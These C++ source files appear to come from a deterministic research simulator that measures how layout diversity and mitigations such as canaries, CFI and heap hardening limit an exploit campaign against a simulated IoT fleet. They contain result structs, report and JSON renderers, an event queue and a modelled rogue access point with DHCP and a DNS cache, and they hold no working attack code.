  std::uint64_t digest = 0;  // FNV-1a over the processed event stream
  SimTime sim_end_us = 0;    // virtual clock at drain
  double wall_seconds = 0.0;
  double victims_per_sec = 0.0;

  [[nodiscard]] double compromised_fraction() const noexcept {
    return victims == 0 ? 0.0
                        : static_cast<double>(compromised) /
                              static_cast<double>(victims);
  }
};

/// Runs one campaign to completion (every victim seated, attacked or not,
/// and drained). diversity_bits above 8 is rejected: lanes are real boots
/// kept resident, and 2^8 variants x policy buckets is the sane ceiling.
util::Result<FleetResult> RunFleetCampaign(const FleetConfig& config);

/// One row of the survival curve: the same population at a given entropy,
/// attacked once per bug class. The unqualified fields are the stack-smash
/// class (the original curve); the loop_/heap_ fields are the same fleet
/// under the pointer-loop and heap-metadata attackers.
struct SurvivalPoint {
  int diversity_bits = 0;
  std::uint64_t victims = 0;
  // Stack smash: address-dependent, so diversity entropy starves it.
  std::uint64_t compromised = 0;
  std::uint64_t crashed = 0;
  double compromised_fraction = 0.0;
  std::uint64_t digest = 0;
  double victims_per_sec = 0.0;
  // Pointer loop: address-free DoS — its curve should be flat in entropy.
  std::uint64_t loop_crashed = 0;
  double loop_crashed_fraction = 0.0;
  std::uint64_t loop_digest = 0;
  // Heap metadata: heap addresses are unrandomised, so entropy does not
  // help; only the population's heap-integrity adopters trap it. Under a
  // W^X base the pivot lands on non-executable heap pages and the class
  // degrades to crashes instead of shells — both columns are kept so the
  // curve stays honest either way.
  std::uint64_t heap_compromised = 0;
  double heap_compromised_fraction = 0.0;
  std::uint64_t heap_crashed = 0;
  std::uint64_t heap_trapped = 0;
  std::uint64_t heap_digest = 0;
};

/// Sweeps diversity entropy, re-running the campaign per point (same seed,
/// same population otherwise) once per bug class. The returned curve is the
/// experiment's deliverable: per-bug-class compromise/DoS fraction vs
/// entropy bits — diversity starves the stack smash while leaving the
/// pointer-loop and heap-metadata classes untouched.
///
/// The (point, bug class) campaigns are embarrassingly parallel — each is a
/// self-contained virtual-time simulation off its own seed — and run across
/// `sweep_workers` threads (0 = one per hardware core, 1 = serial). Results
/// are assembled in point-then-class order regardless of completion order,
/// so the curve, its digests, and which error wins when several campaigns
/// fail are identical to the serial path.
util::Result<std::vector<SurvivalPoint>> RunSurvivalSweep(
    FleetConfig config, const std::vector<int>& entropy_bits,
    std::size_t sweep_workers = 0);

}  // namespace connlab::fleet
