// Population profiles: what a fleet of real IoT devices looks like.
//
// The DAEDALUS question is population-level — one profiled exploit against
// a *diverse* fleet — so the simulator needs a distribution over device
// configurations, not a single victim. A PopulationProfile describes that
// distribution (mitigation adoption rates, diversity entropy, traffic
// shape); SampleTraits draws one concrete device from it using the
// client's own deterministic RNG stream.
#pragma once

#include <cstdint>
#include <vector>

#include "src/defense/mitigation.hpp"
#include "src/fleet/event_queue.hpp"
#include "src/util/rng.hpp"

namespace connlab::fleet {

struct PopulationProfile {
  // Mitigation adoption across the fleet. Real IoT deployments are ragged:
  // most ship with nothing, some with a stack protector, few with CFI.
  double p_canary = 0.25;
  double p_cfi = 0.10;
  double p_heap_integrity = 0.15;  // allocators with hardened free()
  std::vector<int> canary_bits = {8, 16, 24};  // drawn uniformly if canaried

  // Diversity entropy: each device boots one of 2^diversity_bits layout
  // variants. 0 = monoculture (every device is the profiled device).
  int diversity_bits = 0;

  // Traffic shape, in virtual microseconds.
  std::uint32_t queries_per_session_mean = 8;  // uniform in [1, 2*mean)
  SimTime query_gap_us = 50;                   // uniform in [1, 2*gap)
  SimTime join_stagger_us = 2;                 // arrivals spread per client
  double p_roam = 0.05;  // detach + re-attach (renumber) after a session

  // DNS name space the clients query — a hot set plus a long tail, so
  // concurrent sessions contend for the rogue AP's response cache.
  std::uint32_t hot_names = 64;
  std::uint32_t tail_names = 100000;
  double p_hot = 0.8;

  static PopulationProfile IoTDefault() { return {}; }
};

/// One concrete device + session plan drawn from the profile.
struct ClientTraits {
  defense::PolicySpec policy;
  std::uint32_t variant = 0;   // which of the 2^b layout variants it boots
  std::uint32_t queries = 1;   // DNS queries this session will issue
  bool roams = false;          // one detach/re-attach mid-life
};

/// Draws a device from the population. Deterministic given the rng state;
/// campaigns pass each client its own Split(client_id) stream.
ClientTraits SampleTraits(const PopulationProfile& profile, util::Rng& rng);

/// Uniform name-id draw over hot set + tail (cache-contention model).
std::uint64_t SampleQueryName(const PopulationProfile& profile, util::Rng& rng);

}  // namespace connlab::fleet
