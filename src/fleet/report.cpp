#include "src/fleet/report.hpp"

#include <cinttypes>
#include <cstdarg>
#include <cstdio>

namespace connlab::fleet {
namespace {

void Appendf(std::string& out, const char* fmt, ...) {
  char buf[256];
  va_list args;
  va_start(args, fmt);
  const int n = std::vsnprintf(buf, sizeof(buf), fmt, args);
  va_end(args);
  if (n > 0) out.append(buf, static_cast<std::size_t>(n));
}

}  // namespace

std::string RenderFleetReport(const FleetResult& r) {
  std::string out;
  const std::string bug_class(BugClassName(r.bug_class));
  Appendf(out,
          "fleet campaign [%s]: %" PRIu64 " victims in %.2fs (%.0f victims/s, "
          "virtual %.1f ms)\n",
          bug_class.c_str(), r.victims, r.wall_seconds, r.victims_per_sec,
          static_cast<double>(r.sim_end_us) / 1000.0);
  Appendf(out,
          "  churn   : joins %" PRIu64 "  renews %" PRIu64 "  roams %" PRIu64
          "  leaves %" PRIu64 "  expiries %" PRIu64 "  retries %" PRIu64 "\n",
          r.joins, r.renews, r.roams, r.leaves, r.lease_expiries,
          r.join_retries);
  Appendf(out,
          "  traffic : queries %" PRIu64 "  cache hit/miss/evict %" PRIu64
          "/%" PRIu64 "/%" PRIu64 "\n",
          r.queries, r.cache_hits, r.cache_misses, r.cache_evictions);
  Appendf(out,
          "  attack  : deliveries %" PRIu64 "  compromised %" PRIu64
          " (%.4f)  crashed %" PRIu64 "  trapped %" PRIu64
          "  canaries defeated %" PRIu64 " (%" PRIu64 " brute responses)\n",
          r.deliveries, r.compromised, r.compromised_fraction(), r.crashed,
          r.trapped, r.canaries_defeated, r.brute_responses);
  Appendf(out,
          "  pool    : lanes %" PRIu64 "  restores %" PRIu64 "  evals %" PRIu64
          "  memo hits %" PRIu64 "\n",
          r.pool.lanes, r.pool.restores, r.pool.evaluations,
          r.pool.memo_hits);
  Appendf(out, "  digest  : %016" PRIx64 "\n", r.digest);
  return out;
}

std::string RenderSurvivalCurve(const std::vector<SurvivalPoint>& curve) {
  std::string out;
  Appendf(out, "%8s %9s %11s %9s %9s %10s %10s %10s %10s %12s  %s\n",
          "entropy", "victims", "stack-shell", "fraction", "crashed",
          "loop-dos", "heap-shell", "heap-dos", "heap-trap", "victims/s",
          "digest");
  for (const SurvivalPoint& p : curve) {
    Appendf(out,
            "%7db %9" PRIu64 " %11" PRIu64 " %9.4f %9" PRIu64 " %10" PRIu64
            " %10" PRIu64 " %10" PRIu64 " %10" PRIu64 " %12.0f  %016" PRIx64
            "\n",
            p.diversity_bits, p.victims, p.compromised, p.compromised_fraction,
            p.crashed, p.loop_crashed, p.heap_compromised, p.heap_crashed,
            p.heap_trapped, p.victims_per_sec, p.digest);
  }
  return out;
}

std::string SurvivalCurveJson(const std::vector<SurvivalPoint>& curve,
                              std::uint64_t seed, std::uint64_t victims) {
  std::string out;
  Appendf(out,
          "{\n  \"seed\": %" PRIu64 ",\n  \"victims\": %" PRIu64
          ",\n  \"curve_digest\": \"%016" PRIx64 "\",\n  \"points\": [\n",
          seed, victims, CurveDigest(curve));
  for (std::size_t i = 0; i < curve.size(); ++i) {
    const SurvivalPoint& p = curve[i];
    Appendf(out,
            "    {\"diversity_bits\": %d, \"compromised\": %" PRIu64
            ", \"compromised_fraction\": %.6f, \"crashed\": %" PRIu64
            ", \"victims_per_sec\": %.1f, \"digest\": \"%016" PRIx64 "\",\n",
            p.diversity_bits, p.compromised, p.compromised_fraction, p.crashed,
            p.victims_per_sec, p.digest);
    Appendf(out,
            "     \"loop_crashed\": %" PRIu64
            ", \"loop_crashed_fraction\": %.6f, \"loop_digest\": \"%016" PRIx64
            "\",\n",
            p.loop_crashed, p.loop_crashed_fraction, p.loop_digest);
    Appendf(out,
            "     \"heap_compromised\": %" PRIu64
            ", \"heap_compromised_fraction\": %.6f, \"heap_crashed\": %" PRIu64
            ", \"heap_trapped\": %" PRIu64 ", \"heap_digest\": \"%016" PRIx64
            "\"}%s\n",
            p.heap_compromised, p.heap_compromised_fraction, p.heap_crashed,
            p.heap_trapped, p.heap_digest, i + 1 < curve.size() ? "," : "");
  }
  out += "  ]\n}\n";
  return out;
}

std::uint64_t CurveDigest(const std::vector<SurvivalPoint>& curve) {
  std::uint64_t digest = 14695981039346656037ull;
  for (const SurvivalPoint& p : curve) {
    // All three per-class campaign digests fold in, so a rerun must
    // reproduce every class's event stream, not just the stack one.
    std::uint64_t values[4] = {static_cast<std::uint64_t>(p.diversity_bits),
                               p.digest, p.loop_digest, p.heap_digest};
    for (const std::uint64_t v : values) {
      for (int i = 0; i < 8; ++i) {
        digest ^= (v >> (8 * i)) & 0xffu;
        digest *= 1099511628211ull;
      }
    }
  }
  return digest;
}

}  // namespace connlab::fleet
