// The discrete-event core of the fleet simulator.
//
// Virtual time only: events are (time, seq) pairs popped in deadline order
// with FIFO tie-breaking, exactly like net::Network's scheduled delivery but
// for client-lifecycle events (join, query, renew, roam, leave) instead of
// datagrams. No wall clock anywhere — a campaign replayed from the same
// seed pops the same events in the same order on any machine.
#pragma once

#include <cstdint>
#include <queue>
#include <vector>

namespace connlab::fleet {

/// Virtual microseconds since campaign start (same unit as net::SimTime).
using SimTime = std::uint64_t;

struct Event {
  enum class Kind : std::uint8_t {
    kJoin,       // client attaches: DHCP exchange with the rogue AP
    kQuery,      // client issues one DNS query
    kRenew,      // client renews its lease mid-session
    kLeave,      // client detaches: releases its lease
    kHousekeep,  // AP-side sweep: expire lapsed leases
  };

  SimTime at = 0;
  Kind kind = Kind::kJoin;
  std::uint32_t client = 0;  // global client id (== victim index)
};

class EventQueue {
 public:
  void Push(const Event& event) {
    heap_.push(Entry{event, next_seq_++});
  }

  /// Pops the earliest event (FIFO among equal deadlines) and advances
  /// virtual time to it. Requires !empty().
  Event Pop() {
    Entry entry = heap_.top();
    heap_.pop();
    if (entry.event.at > now_) now_ = entry.event.at;
    return entry.event;
  }

  [[nodiscard]] bool empty() const noexcept { return heap_.empty(); }
  [[nodiscard]] std::size_t size() const noexcept { return heap_.size(); }
  [[nodiscard]] SimTime now() const noexcept { return now_; }

 private:
  struct Entry {
    Event event;
    std::uint64_t seq;
  };
  struct After {
    bool operator()(const Entry& a, const Entry& b) const noexcept {
      if (a.event.at != b.event.at) return a.event.at > b.event.at;
      return a.seq > b.seq;
    }
  };

  std::priority_queue<Entry, std::vector<Entry>, After> heap_;
  std::uint64_t next_seq_ = 0;
  SimTime now_ = 0;
};

}  // namespace connlab::fleet
