// The rogue access point as the fleet sees it: a DHCP server under churn
// plus a bounded DNS response cache the concurrent sessions contend for.
//
// The cache is deliberately deterministic: FIFO ring eviction over uint64
// name-ids, no hash-order iteration anywhere, so a campaign digest is
// stable across platforms and standard-library implementations.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <unordered_set>
#include <vector>

#include "src/net/dhcp.hpp"
#include "src/util/status.hpp"

namespace connlab::fleet {

/// Fixed-capacity membership cache with FIFO (insertion-order) eviction.
class BoundedCache {
 public:
  explicit BoundedCache(std::size_t capacity)
      : capacity_(capacity == 0 ? 1 : capacity) {
    ring_.reserve(capacity_);
  }

  /// True (and counts a hit) if `key` is cached; counts a miss otherwise.
  bool Lookup(std::uint64_t key) {
    if (members_.count(key) != 0) {
      ++hits_;
      return true;
    }
    ++misses_;
    return false;
  }

  /// Inserts `key`, evicting the oldest entry when full. No-op if present.
  void Insert(std::uint64_t key) {
    if (members_.count(key) != 0) return;
    if (ring_.size() == capacity_) {
      members_.erase(ring_[head_]);
      ring_[head_] = key;
      head_ = (head_ + 1) % capacity_;
      ++evictions_;
    } else {
      ring_.push_back(key);
    }
    members_.insert(key);
  }

  [[nodiscard]] std::size_t size() const noexcept { return ring_.size(); }
  [[nodiscard]] std::size_t capacity() const noexcept { return capacity_; }
  [[nodiscard]] std::uint64_t hits() const noexcept { return hits_; }
  [[nodiscard]] std::uint64_t misses() const noexcept { return misses_; }
  [[nodiscard]] std::uint64_t evictions() const noexcept { return evictions_; }

 private:
  std::size_t capacity_;
  std::size_t head_ = 0;  // next eviction slot once the ring is full
  std::vector<std::uint64_t> ring_;
  std::unordered_set<std::uint64_t> members_;
  std::uint64_t hits_ = 0;
  std::uint64_t misses_ = 0;
  std::uint64_t evictions_ = 0;
};

/// The attacker's AP: leases addresses (pointing DNS at itself, §III-D)
/// and resolves the fleet's benign queries through a bounded cache.
class RogueAp {
 public:
  struct Config {
    int dhcp_pool = 8192;
    std::uint64_t lease_ttl_us = 500;
    std::size_t cache_entries = 256;
  };

  explicit RogueAp(const Config& config)
      : dhcp_("10.99.0", "10.99.0.1", "10.99.0.1", config.dhcp_pool),
        cache_(config.cache_entries) {
    dhcp_.set_lease_ttl(config.lease_ttl_us);
  }

  [[nodiscard]] net::DhcpServer& dhcp() noexcept { return dhcp_; }
  [[nodiscard]] BoundedCache& cache() noexcept { return cache_; }

  /// Serves one benign query: cache hit, or simulated upstream resolve +
  /// insert. Returns whether the response came from cache.
  bool ServeBenignQuery(std::uint64_t name_id) {
    if (cache_.Lookup(name_id)) return true;
    cache_.Insert(name_id);
    return false;
  }

 private:
  net::DhcpServer dhcp_;
  BoundedCache cache_;
};

}  // namespace connlab::fleet
